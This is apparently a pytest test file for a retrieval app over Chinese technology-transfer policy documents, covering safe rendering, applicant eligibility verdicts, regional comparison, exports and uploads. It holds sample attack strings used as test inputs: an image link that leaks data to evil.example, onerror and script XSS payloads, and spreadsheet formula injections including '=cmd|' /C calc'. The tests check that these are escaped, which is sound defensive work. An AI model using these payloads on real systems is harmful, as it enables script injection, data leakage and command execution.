"""What the web page shows, without a browser: safe rendering, eligibility, comparison, uploads."""
from __future__ import annotations

import re
from datetime import date

import pytest

from rag.apps import views as ui
from rag.core.errors import RagError
from rag.core.model import Answer, Citation
from rag.extract.measures import measure_of
from rag.features.compare import NOT_STATED
from rag.features.eligibility import measures_for, to_csv, to_markdown, verdict


def test_document_text_cannot_become_a_link_image_or_html_in_the_chat():
    hostile = "见![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)> [点此](http://evil.example) [1]"
    out = ui.safe_markdown(hostile)
    assert not re.search(r"(?<!\\)[<>]", out) and not re.search(r"(?<!\\)\]\(", out)
    assert not re.search(r"(?<!\\)!(?=\\?\[)", out)  # no image syntax left
    assert out.endswith("[1]")


def test_clause_view_escapes_html_and_highlights_the_quoted_sentence():
    cite = Citation(1, "d", "某方案<script>", "某地", "一、 > 1.", "一、1", "<script>alert(1)</script>按至少70%的比例划归成果完成人。")
    page = ui.clause_html(cite, "根据《某方案》一、1：“按至少70%的比例划归成果完成人。”[1]")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "<mark>按至少70%的比例划归成果完成人</mark>" in page


def test_not_covered_answer_is_marked_apart_from_an_answer():
    related = [Citation(1, "d", "某方案", "某地", "一、", "一、", "文本")]
    text = ui.answer_markdown(Answer("文件未涉及这一问题。", [], True, related))
    assert text.startswith("**【文件未涉及】") and "Related clauses (not cited)" in text


@pytest.mark.parametrize("sentence,kind,status", [
    ("对科技型中小企业给予贷款贴息。", "科技型中小企业", "met"),
    ("符合条件的科技型中小企业可申请补助。", "科技型中小企业", "needs checking"),
    ("鼓励高校设立技术转移机构，给予资金支持。", "科技型中小企业", "not met"),
    # a measure for a narrower kind the applicant may also be: never "met" on 企业 ⊂ 小微企业
    ("对小微企业申请发明专利进行资助。", "高新技术企业", "needs checking"),
    # a measure for enterprises covers a 高新技术企业
    ("支持企业建设重点实验室，给予资金补助。", "高新技术企业", "met"),
    # the 国有企业 pays the reward here; the inventors receive it
    ("国有企业事业单位对职务发明完成人的奖励，计入当年单位工资总额。", "高新技术企业", "not met"),
    # 企业家 are people, not enterprises
    ("支持企业家、科技人员到高校担任兼职教授或创业导师。", "科技型中小企业", "not met"),
])
def test_measure_verdict_for_an_applicant(sentence, kind, status):
    measure = measure_of(sentence)
    assert measure is not None
    assert verdict(measure.beneficiaries, measure.conditions, kind)[0] == status


@pytest.mark.parametrize("sentence", [
    "全面贯彻党的十八大和十八届三中、四中、五中、六中全会精神，加大资金投入。",  # no beneficiary
    "各地要将科技成果转移转化工作摆上重要位置，加大资金支持。",  # a duty of 各地
])
def test_a_sentence_without_a_beneficiary_is_no_measure(sentence):
    assert measure_of(sentence) is None


# sentences written for these rules (not from the gold file): who receives, by sentence shape
@pytest.mark.parametrize("sentence, receivers", [
    # a kind inside a modifier is not the head that receives
    ("加大对服务高校成果转化的担保机构的支持力度。", ("金融机构",)),
    # owners before what they own, with the rest of their list
    ("科研机构、高等院校持有的科技成果，成果完成人可以自行实施转化。", ("科研人员",)),
    # a right or a priority granted to the subject of the sentence
    ("高等院校对其持有的专利，可以自主决定转让。", ("高校",)),
    ("技术许可他人实施的，中小微企业优先实施。", ("科技型中小企业",)),
    # the project is what the supported firm does: the firm still receives (the project too)
    ("支持科技企业发行债券为科技成果转化项目融资。", ("科技型中小企业", "项目")),
])
def test_the_receiver_is_read_from_the_sentence_shape(sentence, receivers):
    measure = measure_of(sentence)
    assert measure is not None and measure.beneficiaries == receivers


@pytest.mark.parametrize("sentence", [
    "鼓励高校设置技术经纪人岗位。",  # urged, not backed, to set up its own post: its task
    "鼓励社会力量创办科技服务机构。",  # what another party builds is not backed
    "对完成人给予奖励的支出计入当年本单位工资总额。",  # how a cost is booked
    "项目承担者未实施转化的，主管部门可以终止项目。",  # the department holds the right
])
def test_duties_bookkeeping_and_others_rights_are_no_measures(sentence):
    measure = measure_of(sentence)
    assert measure is None or not measure.beneficiaries


def test_an_offer_naming_no_kind_is_open_to_every_applicant_and_a_sentence_can_refer_back():
    fund = measure_of("省政府设立科技成果转化引导基金，用于成果转化。")
    assert fund is not None and fund.beneficiaries == () and "funding" in fund.benefits
    assert verdict(fund.beneficiaries, fund.conditions, "高校")[0] == "needs checking"
    from rag.extract.measures import measures_of

    kept = measures_of("高等院校可以自主决定转化其科技成果。科技成果转化收入留归本单位。")
    assert [m.beneficiaries for m in kept] == [("高校",), ("高校",)] and "equity" in kept[1].benefits


def test_meishan_tech_sme_measures_come_from_meishan_clauses_with_sources(corpus_docs):
    from rag.chunking.parser import ClauseNodeParser, token_counter

    nodes = ClauseNodeParser().clause_nodes(corpus_docs["meishan_2017"], token_counter())
    measures = measures_for(nodes, "眉山市", "科技型中小企业", today=date(2026, 12, 1))
    loans = [m for m in measures if "贷款贴息" in m.text]
    assert loans and loans[0].status in ("met", "needs checking") and loans[0].label.startswith("《眉山市")
    assert any(m.status == "not met" and "学分" in m.text for m in measures)
    assert all(m.period == "2017-2020" and m.ended for m in measures)  # the plan ended in 2020
    assert "| 结论 verdict |" in to_markdown(measures, "眉山市", "科技型中小企业")
    assert to_csv(measures).splitlines()[0].startswith("status,reason")
    with pytest.raises(ValueError):
        measures_for(nodes, "眉山市", "外星人")


def test_csv_cells_cannot_run_as_spreadsheet_formulas():
    from rag.features.eligibility import Verdict

    row = Verdict("met", "=HYPERLINK(\"http://x\")", "funding", "+1", "-2", "@3", "", "", "", "", "", False)
    line = to_csv([row]).splitlines()[1]
    assert "'=HYPERLINK" in line and "'+1" in line and "'-2" in line and "'@3" in line


def test_compare_keeps_a_zones_own_figure_apart_and_breaks_it_down_by_city(indexed_settings):
    from rag.pipeline.asking import compare_regions

    rows = compare_regions("技术合同交易额", settings=indexed_settings)
    by = {r.area: r for r in rows}
    # the 700亿元 in the zone's plan is for 全省, not the zone: noted, never its figure
    assert by["成德绵"].figure == NOT_STATED and "全省" in by["成德绵"].note and "700亿元" in by["成德绵"].note
    assert by["甘肃省"].figure == "达到200亿元" and "2020" in by["甘肃省"].period
    assert by["江西省"].figure == "力争达到100亿元"
    assert by["阿坝州"].figure == "达到600万元" and "cumulative" in by["阿坝州"].period  # 累计, not yearly
    assert all(r.label.startswith("《") for r in rows if r.figure != NOT_STATED)

    cities = {r.area: r.figure for r in compare_regions("孵化企业", ["成德绵"], indexed_settings)}
    assert cities == {"成德绵": "1000家", "成都市": "600家", "绵阳市": "300家", "德阳市": "100家"}


def test_compare_takes_an_english_topic_and_other_regions_say_not_stated(indexed_settings):
    from rag.pipeline.asking import compare_regions

    english = {r.region: r.figure for r in compare_regions("high-tech enterprises", settings=indexed_settings)}
    chinese = {r.region: r.figure for r in compare_regions("高新技术企业数量目标", settings=indexed_settings)}
    assert english == chinese
    assert chinese["眉山市"] == "达到90家" and chinese["甘肃省"] == "100家以上"
    assert chinese["江西省"] == NOT_STATED  # 高新技术产业基地 is another thing counted


def test_compare_refuses_a_topic_that_names_nothing(indexed_settings):
    from rag.pipeline.asking import compare_regions

    with pytest.raises(RagError, match="names nothing"):
        compare_regions("目标", settings=indexed_settings)


def test_uploads_are_type_and_size_checked_and_kept_in_the_upload_folder(tmp_path, monkeypatch):
    from rag.core.config import Settings

    settings = Settings(data_dir=tmp_path / "data")
    bad = tmp_path / "run.exe"
    bad.write_bytes(b"MZ")
    big = tmp_path / "big.txt"
    big.write_text("长" * 100, encoding="utf-8")
    monkeypatch.setattr(ui, "MAX_UPLOAD_BYTES", 50)
    status = ui.ingest_upload([str(bad), str(big)], settings)
    assert "run.exe" in status and "unsupported type" in status and "over" in status
    assert not list((tmp_path / "data" / "uploads").iterdir())
    with pytest.raises(RagError):
        ui.ingest_upload([], settings)


@pytest.mark.slow
def test_uploaded_document_is_searchable_at_once(indexed_settings, tmp_path):
    from rag.pipeline.asking import answer

    doc = tmp_path / "白石市促进科技成果转移转化实施办法.txt"
    doc.write_text("白石市促进科技成果转移转化实施办法\n\n一、收益分配\n"
                   "1.职务科技成果转化所得净收入，按不低于80%的比例奖励成果完成人及其团队。\n", encoding="utf-8")
    settings = indexed_settings.with_overrides(data_dir=tmp_path / "data")
    import shutil

    shutil.copytree(indexed_settings.data_dir, settings.data_dir)
    status = ui.ingest_upload([str(doc)], settings)
    assert status.startswith("已导入") and (settings.data_dir / "uploads" / doc.name).is_file()
    result = answer("白石市成果完成人的奖励比例是多少？", settings=settings)
    assert "80%" in result.text and result.citations[0].region == "白石市"


def test_rag_eligible_gives_verdicts_for_a_city_inside_a_covered_region(indexed_settings):
    import json
    import subprocess
    import sys

    env = {"RAG_DATA_DIR": str(indexed_settings.data_dir), "RAG_CORPUS_DIR": str(indexed_settings.corpus_dir),
           "HF_HUB_OFFLINE": "1", "PATH": ""}
    run = subprocess.run([sys.executable, "-m", "rag", "eligible", "--region", "绵阳", "--applicant", "高校",
                          "--json"], capture_output=True, text=True, env=env)
    assert run.returncode == 0, run.stderr
    rows = [json.loads(line) for line in run.stdout.splitlines()]
    assert rows and {r["region"] for r in rows} == {"成德绵"}  # 绵阳 is a city of the 成德绵 zone
    assert {r["status"] for r in rows} <= {"met", "needs checking", "not met"}
    assert any(r["status"] == "met" and "高" in r["beneficiaries"] for r in rows)
    wrong = subprocess.run([sys.executable, "-m", "rag", "eligible", "--region", "绵阳", "--applicant", "外星人"],
                           capture_output=True, text=True, env=env)
    assert wrong.returncode == 2 and "unknown applicant kind" in wrong.stderr


def test_a_broad_eligibility_question_in_chat_gets_the_strongest_measures_as_a_cited_list(indexed_settings):
    from rag.pipeline.asking import answer

    result = answer("我们是眉山的科技型中小企业，能享受哪些支持？", settings=indexed_settings)
    assert not result.abstained and len(result.citations) >= 3
    assert all(c.region == "眉山市" for c in result.citations)
    assert result.short_answer.startswith("眉山市·科技型中小企业") and "（符合）" in result.short_answer
    assert "2017-2020（已结束" in result.text  # the plan's period, and that it has ended
    english = answer("What support can a university in Jiangxi get?", settings=indexed_settings)
    assert "(met)" in english.short_answer and {c.region for c in english.citations} == {"江西省"}
    # a question with a topic of its own is answered by the reader, not by the list
    topical = answer("眉山的科技型中小企业申请贷款贴息能享受哪些支持？", settings=indexed_settings)
    assert "（符合）" not in topical.text


def test_compare_exports_escape_formulas_and_old_export_folders_are_removed(tmp_path):
    import os
    import time

    from rag.features.compare import Row, to_csv, to_html, to_markdown
    from rag.features.export import KEEP_SECONDS, export_folder

    row = Row("=cmd|' /C calc'!A0", "某地", "@SUM(1)", "+100家", "-2020", "", "《某方案》一、")
    csv_line = to_csv([row]).splitlines()[1]
    assert csv_line.startswith("'=cmd") and "'@SUM(1)" in csv_line and "'+100家" in csv_line and "'-2020" in csv_line
    assert "｜" in to_markdown("主题", [row]).splitlines()[-1]  # a | in a cell does not split the table
    page = to_html("<主题>", [Row("某地", "某地", "<img src=x onerror=alert(1)>", "100家", "", "", "《某方案》")])
    assert "<img" not in page and "&lt;img" in page and "<script" not in page and "@media print" in page

    old = export_folder(tmp_path)
    (old / "comparison.csv").write_text("x", encoding="utf-8")
    past = time.time() - KEEP_SECONDS - 10
    os.utime(old, (past, past))
    recent = export_folder(tmp_path)
    assert not old.exists() and recent.is_dir()
    assert export_folder(tmp_path).parent == recent.parent and recent.exists()
